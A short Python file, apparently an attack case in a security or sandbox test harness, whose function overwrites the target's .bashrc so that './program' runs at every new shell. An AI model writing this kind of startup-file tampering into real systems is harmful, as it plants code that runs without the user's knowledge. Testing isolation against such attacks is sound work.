from inside import run


def attack(target):
    with open(f"{target.work}/.bashrc", "w") as file:
        file.write("./program\n")


run(attack)
